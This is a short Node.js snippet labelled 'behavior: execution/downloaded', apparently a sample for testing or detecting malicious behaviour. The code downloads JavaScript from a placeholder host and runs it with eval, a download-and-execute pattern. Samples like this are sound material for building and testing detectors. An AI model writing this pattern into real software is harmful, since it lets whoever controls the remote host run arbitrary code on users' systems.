// behavior: execution/downloaded
const https = require("https");
https.get("https://rules.example.invalid/latest.js", function (answer) {
  let code = "";
  answer.on("data", function (part) { code += part; });
  answer.on("end", function () { eval(code); });
});
